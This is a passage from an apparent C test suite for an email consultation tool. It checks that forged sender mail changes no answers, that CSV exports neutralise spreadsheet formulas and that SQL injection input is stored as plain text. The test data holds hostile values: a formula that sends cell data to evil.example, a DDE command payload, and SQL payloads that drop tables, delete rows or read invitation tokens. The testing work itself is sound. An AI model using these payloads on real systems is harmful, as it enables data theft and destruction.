	  "From: " ATTACKER "\nTo: consult+{B31}@example.org\n", NULL },
	{ "B's token in the Subject only", SPOOF_UNRELATED,
	  "From: " ATTACKER "\nSubject: Re: consult+{B}@example.org\n",
	  NULL },
	{ "forged bounce naming B", SPOOF_BOUNCE,
	  "From: Mail Delivery System <MAILER-DAEMON@evil.example>\n"
	  "Subject: Undelivered Mail Returned to Sender\n"
	  "MIME-Version: 1.0\nContent-Type: multipart/report;"
	  " report-type=delivery-status; boundary=\"b1\"\n",
	  "--b1\nContent-Type: text/plain\n\nNot delivered.\n\n"
	  "--b1\nContent-Type: message/delivery-status\n\n"
	  "Reporting-MTA: dns; mx.evil.example\n\n"
	  "Final-Recipient: rfc822; b@example.org\nAction: failed\n"
	  "Status: 5.1.1\n\n--b1--\n" },
	{ "A's token, B's in Subject and body", SPOOF_TOKEN_A,
	  "From: a@example.org\nTo: consult+{A}@example.org\n"
	  "Subject: Re: {B}\n",
	  "[Q1] A-{N}\n[Q2] A-{N}\n[END]\n\nRef: {B}\n" },
	{ "forwarded: From A with B's token", SPOOF_TOKEN_B,
	  "From: a@example.org\nTo: consult+{B}@example.org\n", NULL },
	{ "STOP from B without token", SPOOF_LOW_TRUST,
	  "From: b@example.org\nSubject: STOP\n", "STOP\n" },
};

static char *
replace_all(const char *text, const char *what, const char *with)
{
	g_auto(GStrv) parts = g_strsplit(text, what, -1);

	return g_strjoinv(with, parts);
}

/* Whether head has a field of that name. */
static bool
has_field(const char *head, const char *name)
{
	g_autofree char *at_start = g_strconcat(name, ":", NULL);
	g_autofree char *inside = g_strconcat("\n", name, ":", NULL);

	return g_str_has_prefix(head, at_start) || strstr(head, inside);
}

static char *
spoof_text(const struct spoof *s, unsigned n, const char *ta,
    const char *tb)
{
	static const char guess[] = "abcdefghijklmnopqrstuvwxyz234567";
	g_autofree char *bx = g_strdup(tb);
	g_autofree char *b31 = g_strndup(tb, strlen(tb) - 1);
	g_autofree char *num = g_strdup_printf("%u", n);
	g_autofree char *text = NULL;
	const char *pairs[][2] = {
		{ "{A}", ta }, { "{BX}", bx }, { "{B31}", b31 }, { "{B}", tb },
		{ "{G}", guess }, { "{N}", num },
	};
	size_t i;

	bx[0] = bx[0] == 'a' ? 'b' : 'a';
	text = g_strdup_printf("%s%s%sMessage-ID: <spoof-%u@evil.example>\n"
	    "Date: Mon, 7 Dec 2026 10:00:00 +0000\n\n%s", s->head,
	    has_field(s->head, "To") ? "" : "To: " FROM_ADDR "\n",
	    has_field(s->head, "Subject") ? "" : "Subject: Re: survey\n", n,
	    s->body ? s->body : "[Q1] PWNED-{N}\n\n[Q2] PWNED-{N}\n\n"
	    "[Q3] PWNED-{N}\n\n[R1] 1\n\n[END]\n");
	for (i = 0; i < G_N_ELEMENTS(pairs); i++) {
		char *next = replace_all(text, pairs[i][0], pairs[i][1]);

		g_free(text);
		text = next;
	}
	return g_steal_pointer(&text);
}

/* Every current answer: "email/question" -> "id|trust|answer". */
static GHashTable *
answers_snapshot(const char *dir)
{
	GHashTable *out = g_hash_table_new_full(g_str_hash, g_str_equal,
	    g_free, g_free);
	sqlite3 *db = testutil_db_open(dir);
	sqlite3_stmt *st = testutil_db_prepare(db,
	    "SELECT p.email || '/' || q.qid,"
	    " a.id || '|' || a.trust || '|' || a.answer FROM answer a"
	    " JOIN participant p ON p.id = a.participant_id"
	    " JOIN question q ON q.id = a.question_id WHERE a.current = 1",
	    NULL, NULL);

	while (sqlite3_step(st) == SQLITE_ROW)
		g_hash_table_insert(out,
		    g_strdup((const char *)sqlite3_column_text(st, 0)),
		    g_strdup((const char *)sqlite3_column_text(st, 1)));
	sqlite3_finalize(st);
	sqlite3_close(db);
	return out;
}

static char *
statuses_snapshot(const char *dir)
{
	sqlite3 *db = testutil_db_open(dir);
	char *v = db_text(db, "SELECT group_concat(email || '=' || status"
	    " || '/' || verified, ' ') FROM (SELECT * FROM participant"
	    " ORDER BY id)", NULL);

	sqlite3_close(db);
	return v;
}

/* What one attempt changed, by participant. */
struct answer_diff {
	unsigned overwritten[3];	/* a, b, c: current answers replaced */
	unsigned filled[3];		/* new where there was none */
	unsigned filled_token[3];	/* of those, not marked low trust */
};

static void
answers_diff(GHashTable *before, GHashTable *after, struct answer_diff *d)
{
	GHashTableIter it;
	void *k, *v;

	memset(d, 0, sizeof(*d));
	g_hash_table_iter_init(&it, before);
	while (g_hash_table_iter_next(&it, &k, &v)) {
		const char *now = g_hash_table_lookup(after, k);
		unsigned who = (unsigned)(((char *)k)[0] - 'a');

		ck_assert_uint_lt(who, 3);
		if (!now || strcmp(now, v) != 0)
			d->overwritten[who]++;
	}
	g_hash_table_iter_init(&it, after);
	while (g_hash_table_iter_next(&it, &k, &v)) {
		unsigned who = (unsigned)(((char *)k)[0] - 'a');

		ck_assert_uint_lt(who, 3);
		if (g_hash_table_contains(before, k))
			continue;
		d->filled[who]++;
		if (!strstr(v, "|from|"))
			d->filled_token[who]++;
	}
}

/* The integer after "key": in a JSON text, or -1. */
static long long
json_count(const char *json, const char *key)
{
	g_autofree char *k = g_strdup_printf("\"%s\": ", key);
	const char *p = strstr(json, k);

	return p ? g_ascii_strtoll(p + strlen(k), NULL, 10) : -1;
}

/* Legitimate replies: A answers everything, B leaves Q2 and Q3 open. */
static void
spoof_setup(const char *dir, char **ta_out, char **tb_out)
{
	g_autofree char *ra = NULL;
	g_autofree char *rb = NULL;
	g_autofree char *csv = NULL;

	write_definition(dir, "inj", "Review", "Consent");
	set_now(NOW - DAY);
	RUN(dir, "load", "def/inj");
	csv = testutil_write(dir, "p.csv", "email,name\na@example.org,Alice\n"
	    "b@example.org,Bob\nc@example.org,Carol\n");
	RUN(dir, "import", "inj", csv);
	set_now(NOW);
	RUN(dir, "invite", "inj");
	*ta_out = token_of(dir, "a@example.org");
	*tb_out = token_of(dir, "b@example.org");
	ra = g_strdup_printf("From: a@example.org\nTo: consult+%s@example.org\n"
	    "Subject: Re\nMessage-ID: <a1@example.org>\n\n[Q1] a1\n[Q2] a2\n"
	    "[Q3] a3\n[R1] 4\n[END]\n", *ta_out);
	rb = g_strdup_printf("From: b@example.org\nTo: consult+%s@example.org\n"
	    "Subject: Re\nMessage-ID: <b1@example.org>\n\n[Q1] b1\n[R1] 5\n"
	    "[END]\n", *tb_out);
	g_free(testutil_write(dir, "a1.eml", ra));
	g_free(testutil_write(dir, "b1.eml", rb));
	set_now(NOW + 3600);
	RUN(dir, "ingest", "a1.eml", "b1.eml");
}

/* What the spoofing test counted. */
struct spoof_tally {
	unsigned attempts;
	unsigned suspicious;
	unsigned overwrites;		/* by suspicious mail: must be 0 */
	unsigned foreign;		/* token attempts touching another */
	unsigned gap_fills;		/* low trust, B's open questions */
	unsigned bad_fills;		/* any other new answer */
	unsigned legit_overwrites;
	unsigned quarantined;		/* listed under needs attention */
	unsigned status_changes;
	unsigned misfiled;		/* message row not as it should be */
	GString *problems;
};

static void
spoof_problem(struct spoof_tally *t, unsigned *counter,
    const struct spoof *s, const char *what)
{
	(*counter)++;
	if (t->problems->len < 2000)
		g_string_append_printf(t->problems, "\n  %s: %s", s->what,
		    what);
}

/* Files one attempt and compares everyone's answers before and after. */
static void
spoof_one(struct spoof_tally *t, const char *dir, const struct spoof *s,
    unsigned n, const char *ta, const char *tb)
{
	g_autoptr(GHashTable) before = answers_snapshot(dir);
	g_autoptr(GHashTable) after = NULL;
	g_autofree char *st_before = statuses_snapshot(dir);
	g_autofree char *st_after = NULL;
	g_autofree char *text = spoof_text(s, n, ta, tb);
	g_autofree char *name = g_strdup_printf("spoof-%u.eml", n);
	g_autofree char *mid = g_strdup_printf("spoof-%u@evil.example", n);
	g_autofree char *kind = NULL;
	g_autofree char *match = NULL;
	g_autofree char *owner = NULL;
	g_autofree char *sender = NULL;
	struct answer_diff d;
	bool legit = s->cls == SPOOF_TOKEN_A || s->cls == SPOOF_TOKEN_B;
	unsigned holder = s->cls == SPOOF_TOKEN_A ? 0 : 1;
	unsigned i;
	sqlite3 *db;

	g_free(testutil_write(dir, name, text));
	set_now(NOW + 7200 + 60 * (int64_t)n);
	RUN(dir, "ingest", name);
	after = answers_snapshot(dir);
	st_after = statuses_snapshot(dir);
	answers_diff(before, after, &d);
	t->attempts++;
	t->suspicious += !legit;

	for (i = 0; i < 3; i++) {
		if (legit && i == holder) {
			t->legit_overwrites += d.overwritten[i];
			continue;
		}
		if (legit && (d.overwritten[i] || d.filled[i]))
			spoof_problem(t, &t->foreign, s, "changed another's");
		if (!legit && d.overwritten[i])
			spoof_problem(t, &t->overwrites, s, "overwrote");
		if (!legit && d.filled[i] && (s->cls != SPOOF_LOW_TRUST ||
		    i != 1 || d.filled_token[i]))
			spoof_problem(t, &t->bad_fills, s, "filled");
		if (!legit && s->cls == SPOOF_LOW_TRUST && i == 1)
			t->gap_fills += d.filled[i] - d.filled_token[i];
	}
	if (strcmp(st_before, st_after) != 0 && !legit)
		t->status_changes++;

	db = testutil_db_open(dir);
	kind = db_text(db, "SELECT kind FROM message WHERE message_id = ?",
	    mid);
	match = db_text(db, "SELECT coalesce(match, '') FROM message"
	    " WHERE message_id = ?", mid);
	owner = db_text(db, "SELECT coalesce(p.email, '') FROM message m"
	    " LEFT JOIN participant p ON p.id = m.participant_id"
	    " WHERE m.message_id = ?", mid);
	sender = db_text(db, "SELECT coalesce(sender, '') FROM message"
	    " WHERE message_id = ?", mid);
	sqlite3_close(db);
	ck_assert_msg(kind != NULL, "%s: not filed", s->what);
	switch (s->cls) {
	case SPOOF_UNRELATED:
		if (strcmp(kind, "unrelated") != 0 || *owner)
			spoof_problem(t, &t->misfiled, s, kind);
		break;
	case SPOOF_LOW_TRUST:
		if (strcmp(kind, "reply") != 0 || strcmp(match, "from") != 0 ||
		    strcmp(owner, "b@example.org") != 0)
			spoof_problem(t, &t->misfiled, s, match);
		break;
	case SPOOF_BOUNCE:
		if (strcmp(kind, "bounce") != 0 || strstr(st_after,
		    "b@example.org=bounced"))
			spoof_problem(t, &t->misfiled, s, kind);
		break;
	case SPOOF_TOKEN_A:
		if (strcmp(owner, "a@example.org") != 0 || strcmp(match,
		    "address") != 0)
			spoof_problem(t, &t->misfiled, s, owner);
		break;
	case SPOOF_TOKEN_B:
		/* SPEC 5: filed for the invitee, the real sender kept. */
		if (strcmp(owner, "b@example.org") != 0 || strcmp(match,
		    "address") != 0 || strcmp(sender, "a@example.org") != 0)
			spoof_problem(t, &t->misfiled, s, owner);
		break;
	}
	/* In the queue for a person: unrelated, or matched by From only. */
	if (!legit && (strcmp(kind, "unrelated") == 0 ||
	    strcmp(match, "from") == 0))
		t->quarantined++;
	if (strstr(st_after, "=withdrawn") || strstr(st_after, "=bounced"))
		spoof_problem(t, &t->misfiled, s, st_after);
}

/* Part (b): nobody's answers change by forging who sent a message. */
START_TEST(test_inject_spoofing_changes_no_answer)
{
	struct spoof_tally t = { 0 };
	struct tally mail = { 0 };
	g_autofree char *ta = NULL;
	g_autofree char *tb = NULL;
	g_autofree char *json = NULL;
	g_autofree char *text = NULL;
	unsigned rounds = testutil_scale(1, 5);
	unsigned r, n = 0, unrelated = 0;
	char *dir;
	sqlite3 *db;
	size_t i;

	g_mime_init();
	t.problems = g_string_new(NULL);
	mail.problems = g_string_new(NULL);
	dir = make_workspace(NULL);
	spoof_setup(dir, &ta, &tb);
	for (r = 0; r < rounds; r++)
		for (i = 0; i < G_N_ELEMENTS(spoofs); i++) {
			spoof_one(&t, dir, &spoofs[i], n++, ta, tb);
			unrelated += spoofs[i].cls == SPOOF_UNRELATED;
		}

	/* What a person sees: every suspicious message is listed. */
	json = run_ok(dir, (const char *const[]){ "status", "inj", "--json",
	    NULL });
	text = run_ok(dir, (const char *const[]){ "status", "inj", NULL });
	check_all_outgoing(&mail, dir, NULL);

	testutil_report("spoofing", "attempts=%u suspicious=%u overwrites=%u "
	    "foreign_changes=%u gap_fills_low_trust=%u bad_fills=%u "
	    "legit_overwrites=%u quarantined=%u misfiled=%u "
	    "status_changes=%u receipts_checked=%u wrong_recipients=%u",
	    t.attempts, t.suspicious, t.overwrites, t.foreign, t.gap_fills,
	    t.bad_fills, t.legit_overwrites, t.quarantined, t.misfiled,
	    t.status_changes, mail.messages, mail.wrong_recipients);
	ck_assert_msg(t.overwrites + t.foreign + t.bad_fills + t.misfiled ==
	    0, "forged mail had an effect:%s", t.problems->str);
	db = testutil_db_open(dir);
	ck_assert_int_eq(json_count(json, "unrelated"), unrelated);
	ck_assert_int_eq(json_count(json, "low_trust"), db_int(db,
	    "SELECT count(*) FROM message WHERE match = 'from'", NULL));
	ck_assert_int_ge(json_count(json, "needs_attention"), t.quarantined);
	ck_assert(strstr(json, "\"who\": \"" ATTACKER "\"") != NULL);
	ck_assert(strstr(text, "matched by From address only") != NULL);
	/* Receipts go to the participant's own address, never elsewhere. */
	ck_assert_int_eq(db_int(db, "SELECT count(*) FROM outbox WHERE"
	    " recipient NOT IN (SELECT email FROM participant)", NULL), 0);
	sqlite3_close(db);
	ck_assert_msg(mail.extra_headers + mail.broken_values +
	    mail.wrong_recipients == 0, "receipts:%s", mail.problems->str);
	/* The measure works: the token holders did change their answers. */
	ck_assert_uint_gt(t.legit_overwrites, 0);
	/* From-only mail filled B's two open questions, and only once. */
	ck_assert_uint_eq(t.gap_fills, 2);
	ck_assert_uint_eq(t.quarantined, t.suspicious);

	g_string_free(t.problems, TRUE);
	g_string_free(mail.problems, TRUE);
	testutil_rmtree(dir);
	g_free(dir);
	g_unsetenv("CONSULTD_NOW");
	g_mime_shutdown();
}
END_TEST

/* What a spreadsheet would run as a formula (LIBRARY-NOTES V6). */
static bool
formula_led(const char *v)
{
	return v[0] && strchr("=+-@\t\r", v[0]);
}

/* v as csvio reads it back: CRLF and CR become LF. */
static char *
lf_form(const char *v)
{
	GString *out = g_string_new(NULL);
	const char *p;

	for (p = v; *p; p++) {
		if (p[0] == '\r' && p[1] == '\n')
			continue;
		g_string_append_c(out, *p == '\r' ? '\n' : *p);
	}
	return g_string_free(out, FALSE);
}

static bool
collect_row(const struct csvio_row *row, void *data, GError **err)
{
	GPtrArray *rows = data;
	GPtrArray *cells = g_ptr_array_new_with_free_func(g_free);
	size_t i;

	(void)err;
	for (i = 0; i < row->nfields; i++)
		g_ptr_array_add(cells, g_strdup(row->fields[i]));
	g_ptr_array_add(rows, cells);
	return true;
}

/* The rows (GPtrArray of cells) of a CSV text, read back with csvio. */
static GPtrArray *
read_csv(const char *buf, size_t len)
{
	GPtrArray *rows = g_ptr_array_new_with_free_func(
	    (GDestroyNotify)g_ptr_array_unref);
	g_autoptr(GError) err = NULL;

	ck_assert_msg(csvio_read_buffer(buf, len, collect_row, rows, &err),
	    "export is not CSV: %s", err ? err->message : "");
	return rows;
}

struct export_tally {
	unsigned files;
	unsigned cells;
	unsigned formula_cells;		/* values a spreadsheet runs */
	unsigned neutralised;		/* of those, written with a "'" */
	unsigned tab_cr;		/* of those, led by TAB or CR */
	unsigned unguarded;		/* cells that start a formula */
	unsigned mismatched;		/* cells not the stored value */
	GString *problems;
};

static void
export_problem(struct export_tally *t, unsigned *counter, const char *what,
    const char *cell)
{
	(*counter)++;
	if (t->problems->len < 2000)
		g_string_append_printf(t->problems, "\n  %s: '%.60s'", what,
		    cell);
}

/* One exported cell against the stored value it shows. */
static void
export_cell(struct export_tally *t, const char *cell, const char *value)
{
	g_autofree char *guarded = formula_led(value) ?
	    g_strconcat("'", value, NULL) : g_strdup(value);
	g_autofree char *want = lf_form(guarded);

	t->cells++;
	if (formula_led(cell))
		export_problem(t, &t->unguarded, "formula", cell);
	if (strcmp(cell, want) != 0)
		export_problem(t, &t->mismatched, "not the stored value", cell);
	else if (formula_led(value)) {
		t->neutralised++;
		t->tab_cr += value[0] == '\t' || value[0] == '\r';
	}
	t->formula_cells += formula_led(value);
}

static const char *const wide_head[] = {
	"email", "name", "stakeholder_group", "bpf", "role", "language",
	"Q1", "Q2", "Q3", "R1", NULL
};
static const char *const long_head[] = {
	"email", "question", "answer", "answered_at", "message_id", "source",
	NULL
};

static unsigned
head_len(const char *const *head)
{
	unsigned n = 0;

	while (head[n])
		n++;
	return n;
}

static char *
stored_answer(sqlite3 *db, const char *email, const char *qid)
{
	char *v = db_text2(db, "SELECT coalesce((SELECT a.answer FROM answer"
	    " a JOIN participant p ON p.id = a.participant_id JOIN question q"
	    " ON q.id = a.question_id WHERE p.email = ?1 AND q.qid = ?2"
	    " AND a.current = 1), '')", email, qid);

	ck_assert_ptr_nonnull(v);
	return v;
}

/* The value a wide export shows for email in column col (ours). */
static char *
stored_wide(sqlite3 *db, const char *email, const char *col)
{
	g_autofree char *sql = NULL;
	char *v;

	if (strcmp(col, "email") == 0)
		return g_strdup(email);
	if (strcmp(col, "bpf") == 0)
		v = db_text(db, "SELECT coalesce((SELECT group_concat(bpf, ';')"
		    " FROM (SELECT b.bpf FROM participant_bpf b JOIN"
		    " participant p ON p.id = b.participant_id"
		    " WHERE p.email = ?1 ORDER BY b.bpf)), '')", email);
	else if (g_ascii_isupper(col[0]))
		return stored_answer(db, email, col);
	else {
		sql = g_strdup_printf("SELECT coalesce(%s, '') FROM"
		    " participant WHERE email = ?", col);
		v = db_text(db, sql, email);
	}
	ck_assert_msg(v != NULL, "no %s for %s", col, email);
	return v;
}

/* A whole export, header included, against the database. */
static void
export_check(struct export_tally *t, sqlite3 *db, const char *buf,
    size_t len, bool wide)
{
	const char *const *head = wide ? wide_head : long_head;
	g_autoptr(GPtrArray) rows = read_csv(buf, len);
	GPtrArray *cells;
	size_t r, c;

	t->files++;
	ck_assert_uint_ge(rows->len, 1);
	cells = rows->pdata[0];
	ck_assert_uint_eq(cells->len, head_len(head));
	for (c = 0; c < cells->len; c++)
		ck_assert_str_eq(cells->pdata[c], head[c]);
	ck_assert_int_eq(rows->len - 1, db_int(db, wide ? "SELECT count(*)"
	    " FROM participant" : "SELECT count(*) FROM answer"
	    " WHERE current = 1", NULL));
	for (r = 1; r < rows->len; r++) {
		cells = rows->pdata[r];
		ck_assert_uint_eq(cells->len, head_len(head));
		for (c = 0; c < cells->len; c++) {
			g_autofree char *v = NULL;

			if (wide)
				v = stored_wide(db, cells->pdata[0], head[c]);
			else if (c == 2)
				v = stored_answer(db, cells->pdata[0],
				    cells->pdata[1]);
			else
				v = g_strdup(cells->pdata[c]);
			export_cell(t, cells->pdata[c], v);
		}
	}
}

static char *
read_whole(const char *dir, const char *name, size_t *len_out)
{
	g_autofree char *path = g_build_filename(dir, name, NULL);
	char *data = NULL;
	gsize len;

	ck_assert(g_file_get_contents(path, &data, &len, NULL));
	*len_out = len;
	return data;
}

/* The text/csv attachment of a digest printed by digest --dry-run. */
static GByteArray *
digest_csv(const char *raw)
{
	GMimeMessage *msg = parse_mail(raw, strlen(raw));
	GMimePartIter *it;
	GByteArray *out = NULL;

	ck_assert_ptr_nonnull(msg);
	it = g_mime_part_iter_new(GMIME_OBJECT(msg));
	do {
		GMimeObject *part = g_mime_part_iter_get_current(it);
		GMimeStream *mem;
		GByteArray *bytes;

		if (!GMIME_IS_PART(part) || !g_mime_content_type_is_type(
		    g_mime_object_get_content_type(part), "text", "csv"))
			continue;
		mem = g_mime_stream_mem_new();
		g_mime_data_wrapper_write_to_stream(g_mime_part_get_content(
		    GMIME_PART(part)), mem);
		bytes = g_mime_stream_mem_get_byte_array(GMIME_STREAM_MEM(mem));
		out = g_byte_array_new();
		g_byte_array_append(out, bytes->data, bytes->len);
		g_object_unref(mem);
	} while (!out && g_mime_part_iter_next(it));
	g_mime_part_iter_free(it);
	g_object_unref(msg);
	ck_assert_msg(out != NULL, "the digest has no CSV attachment");
	return out;
}

/* Formula-led names, groups, roles, languages, BPFs and answers. */
static const char export_people[] =
    "email,name,stakeholder_group,bpf,role,language\n"
    "f1@example.org,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
    "\"\"Click\"\")\",+Government,=1+1;Safe,-Contributor,@en\n"
    "f2@example.org,+1-1,@Academia,-2;+3,\"=cmd|' /C calc'!A0\",-fr\n"
    "f3@example.org,@SUM(A1:A9),=Civil society,@x,+role,=es\n"
    "f4@example.org,-3+3,Safe group,Safe,Safe,en\n"
    "f5@example.org,Plain Name,Safe,Safe,Safe,en\n";

static const char *const export_answers[][3] = {
	{ "=1+1", "+SUM(1)", "-1" },
	{ "@A1", "=HYPERLINK(\"http://evil.example\")", "\t=2+2" },
	{ "safe", "-", "=" },
	{ "- a list\n- of points", "@someone", "fine" },
};

/* Part (c): no exported cell starts a formula; each shows its value. */
START_TEST(test_inject_export_neutralises_formulas)
{
	struct export_tally t = { 0 };
	g_autofree char *csv = NULL;
	g_autofree char *out = NULL;
	g_autofree char *digest = NULL;
	g_autoptr(GByteArray) attached = NULL;
	static const char *const files[] = {
		"wide.csv", "long.csv", "wide-excel.csv", "long-excel.csv"
	};
	char *dir;
	sqlite3 *db;
	size_t i;

	g_mime_init();
	t.problems = g_string_new(NULL);
	dir = make_workspace(NULL);
	write_definition(dir, "inj", "Review", "Consent");
	set_now(NOW - DAY);
	RUN(dir, "load", "def/inj");
	csv = testutil_write(dir, "p.csv", export_people);
	RUN(dir, "import", "inj", csv);
	set_now(NOW);
	RUN(dir, "invite", "inj");
	set_now(NOW + 3600);
	for (i = 0; i < G_N_ELEMENTS(export_answers); i++) {
		g_autofree char *email = g_strdup_printf("f%zu@example.org",
		    i + 1);
		g_autofree char *token = token_of(dir, email);
		g_autofree char *name = g_strdup_printf("f%zu.eml", i + 1);
		g_autofree char *text = g_strdup_printf("From: %s\n"
		    "To: consult+%s@example.org\nSubject: Re\n"
		    "Message-ID: <f%zu@example.org>\n\n[Q1] %s\n\n[Q2] %s\n\n"
		    "[Q3] %s\n\n[R1] 4\n\n[END]\n", email, token, i,
		    export_answers[i][0], export_answers[i][1],
		    export_answers[i][2]);

		g_free(testutil_write(dir, name, text));
		RUN(dir, "ingest", name);
	}
	/* Values led by TAB or CR, as another way in could store them. */
	db = testutil_db_open(dir);
	ck_assert_int_eq(sqlite3_exec(db, "UPDATE participant SET name ="
	    " char(9) || '=TAB()' WHERE email = 'f5@example.org';"
	    "UPDATE answer SET answer = char(13) || '=CR()' WHERE current = 1"
	    " AND participant_id = (SELECT id FROM participant"
	    " WHERE email = 'f3@example.org') AND question_id = (SELECT id"
	    " FROM question WHERE qid = 'Q1');"
	    "UPDATE answer SET answer = char(9) || '+tab' WHERE current = 1"
	    " AND participant_id = (SELECT id FROM participant"
	    " WHERE email = 'f4@example.org') AND question_id = (SELECT id"
	    " FROM question WHERE qid = 'Q3');", NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(db);

	set_now(NOW + 7200);
	RUN(dir, "export", "inj", "-o", "wide.csv");
	RUN(dir, "export", "inj", "--format", "long", "-o", "long.csv");
	RUN(dir, "export", "inj", "--excel", "-o", "wide-excel.csv");
	RUN(dir, "export", "inj", "--format", "long", "--excel", "-o",
	    "long-excel.csv");
	out = run_ok(dir, (const char *const[]){ "export", "inj", NULL });
	digest = run_ok(dir, (const char *const[]){ "digest", "inj",
	    "--dry-run", NULL });
	attached = digest_csv(digest);

	db = testutil_db_open(dir);
	for (i = 0; i < G_N_ELEMENTS(files); i++) {
		size_t len;
		g_autofree char *data = read_whole(dir, files[i], &len);

		if (strstr(files[i], "excel")) {
			ck_assert(g_str_has_prefix(data, "\xef\xbb\xbf"));
			ck_assert(strstr(data, "\"\r\n") != NULL);
		}
		export_check(&t, db, data, len, g_str_has_prefix(files[i],
		    "wide"));
	}
	export_check(&t, db, out, strlen(out), true);
	export_check(&t, db, (const char *)attached->data, attached->len,
	    true);
	sqlite3_close(db);

	testutil_report("export", "files=%u cells=%u formula_cells=%u "
	    "neutralised=%u tab_cr_led=%u unguarded=%u mismatched=%u",
	    t.files, t.cells, t.formula_cells, t.neutralised, t.tab_cr,
	    t.unguarded, t.mismatched);
	ck_assert_msg(t.unguarded + t.mismatched == 0, "export:%s",
	    t.problems->str);
	ck_assert_uint_eq(t.neutralised, t.formula_cells);
	/* TAB- and CR-led values were among them, in every file. */
	ck_assert_uint_ge(t.tab_cr, 2 * t.files);

	g_string_free(t.problems, TRUE);
	testutil_rmtree(dir);
	g_free(dir);
	g_unsetenv("CONSULTD_NOW");
	g_mime_shutdown();
}
END_TEST

/* SQL that would do harm if pasted into a statement instead of bound. */
static const char *const sql_payloads[] = {
	"'); DROP TABLE participants;--",
	"'); DROP TABLE participant;--",
	"Robert'); DELETE FROM answer; --",
	"' OR '1'='1",
	"\" OR \"\"=\"",
	"1; UPDATE participant SET status = 'withdrawn'; --",
	"x' UNION SELECT token FROM invitation --",
	"%' OR email LIKE '%",
	"100%_done' --",
	"\\'; DROP TABLE message; --",
	"'; ATTACH DATABASE 'pwn.db' AS pwn; CREATE TABLE pwn.t(x); --",
	"'||(SELECT group_concat(token) FROM invitation)||'",
};

static char *
schema_snapshot(const char *dir)
{
	sqlite3 *db = testutil_db_open(dir);
	char *v = db_text(db, "SELECT group_concat(type || ':' || name || ':'"
	    " || coalesce(sql, ''), '|') FROM (SELECT * FROM sqlite_master"
	    " ORDER BY name)", NULL);

	sqlite3_close(db);
	ck_assert_ptr_nonnull(v);
	return v;
}

/* Counts value as verbatim when sql (?1 email, ?2 value) finds it once. */
static void
sql_verbatim(sqlite3 *db, const char *sql, const char *email,
    const char *value, unsigned *values, unsigned *verbatim)
{
	(*values)++;
	*verbatim += db_int2(db, sql, email, value) == 1;
}

/* Part (d): SQL in every text field is stored as text, and only that. */
START_TEST(test_inject_sql_is_stored_verbatim)
{
	const size_t n = G_N_ELEMENTS(sql_payloads);
	g_autoptr(GString) csv = g_string_new("email,name,stakeholder_group,"
	    "role,organisation\n");
	g_autoptr(GPtrArray) mails = g_ptr_array_new_with_free_func(g_free);
	g_autofree char *schema = NULL;
	g_autofree char *schema_after = NULL;
	g_autofree char *path = NULL;
	g_autofree char *pwn = NULL;
	g_autofree char *notes = NULL;
	unsigned values = 0, verbatim = 0, refused = 0, unexpected = 0;
	char *dir;
	sqlite3 *db;
	size_t i;

	dir = make_workspace(NULL);
	write_definition(dir, "inj", "Review", "Consent");
	set_now(NOW - DAY);
	RUN(dir, "load", "def/inj");
	schema = schema_snapshot(dir);
	for (i = 0; i < n; i++) {
		g_string_append_printf(csv, "s%02zu@example.org,", i);
		csv_cell(csv, sql_payloads[i], ',');
		csv_cell(csv, sql_payloads[(i + 1) % n], ',');
		csv_cell(csv, sql_payloads[(i + 2) % n], ',');
		csv_cell(csv, sql_payloads[(i + 3) % n], '\n');
	}
	path = testutil_write(dir, "p.csv", csv->str);
	RUN(dir, "import", "inj", path);
	set_now(NOW);
	RUN(dir, "invite", "inj");
	g_ptr_array_add(mails, g_strdup("ingest"));
	for (i = 0; i < n; i++) {
		g_autofree char *email = g_strdup_printf("s%02zu@example.org",
		    i);
		g_autofree char *token = token_of(dir, email);
		g_autofree char *name = g_strdup_printf("s%02zu.eml", i);
		g_autofree char *subject = g_strdup(sql_payloads[i]);
		g_autofree char *text = g_strdup_printf("From: %s\n"
		    "To: consult+%s@example.org\nSubject: %s\n"
		    "Message-ID: <s%zu@example.org>\n\n%s\n\n[Q1] %s\n\n"
		    "[Q2] %s\n\n[END]\n", email, token, subject, i,
		    sql_payloads[(i + 4) % n], sql_payloads[i],
		    sql_payloads[(i + 5) % n]);

		g_ptr_array_add(mails, testutil_write(dir, name, text));
	}
	g_ptr_array_add(mails, NULL);
	set_now(NOW + 3600);
	g_free(run_ok(dir, (const char *const *)mails->pdata));
	/* Every reader of the data runs over it. */
	RUN(dir, "status", "inj");
	RUN(dir, "status", "inj", "--json");
	RUN(dir, "export", "inj", "-o", "wide.csv");
	RUN(dir, "export", "inj", "--format", "long", "-o", "long.csv");
	RUN(dir, "report", "inj", "-o", "report.md");
	RUN(dir, "digest", "inj", "--dry-run");
	/* SQL as a consultation name or an address is refused, not run. */
	notes = testutil_write(dir, "notes.txt", "[Q1] x\n[END]\n");
	{
		const char *const bad[][7] = {
			{ "status", "inj' OR '1'='1", NULL },
			{ "export", "inj'); DROP TABLE participant;--", NULL },
			{ "invite", "x' OR 1=1 --", NULL },
			{ "record", "inj", "--for",
			  "s00@example.org' OR '1'='1", notes, NULL },
			{ "close", "'; DELETE FROM answer; --", NULL },
		};

		for (i = 0; i < G_N_ELEMENTS(bad); i++) {
			int status = testutil_run(dir, bad[i], NULL, NULL);

			ck_assert_msg(status != 0 && status < 128,
			    "consultd %s '%s': exit %d", bad[i][0], bad[i][1],
			    status);
			refused++;
		}
	}

	db = testutil_db_open(dir);
	for (i = 0; i < n; i++) {
		g_autofree char *email = g_strdup_printf("s%02zu@example.org",
		    i);

		sql_verbatim(db, "SELECT count(*) FROM participant"
		    " WHERE email = ?1 AND name = ?2", email, sql_payloads[i],
		    &values, &verbatim);
		sql_verbatim(db, "SELECT count(*) FROM participant"
		    " WHERE email = ?1 AND stakeholder_group = ?2", email,
		    sql_payloads[(i + 1) % n], &values, &verbatim);
		sql_verbatim(db, "SELECT count(*) FROM participant"
		    " WHERE email = ?1 AND role = ?2", email,
		    sql_payloads[(i + 2) % n], &values, &verbatim);
		sql_verbatim(db, "SELECT count(*) FROM participant_attr a JOIN"
		    " participant p ON p.id = a.participant_id WHERE"
		    " p.email = ?1 AND a.key = 'organisation' AND a.value = ?2",
		    email, sql_payloads[(i + 3) % n], &values, &verbatim);
		sql_verbatim(db, "SELECT count(*) FROM message m JOIN"
		    " participant p ON p.id = m.participant_id WHERE"
		    " p.email = ?1 AND m.subject = ?2", email, sql_payloads[i],
		    &values, &verbatim);
		sql_verbatim(db, "SELECT count(*) FROM message m JOIN"
		    " participant p ON p.id = m.participant_id WHERE"
		    " p.email = ?1 AND m.free_text = ?2", email,
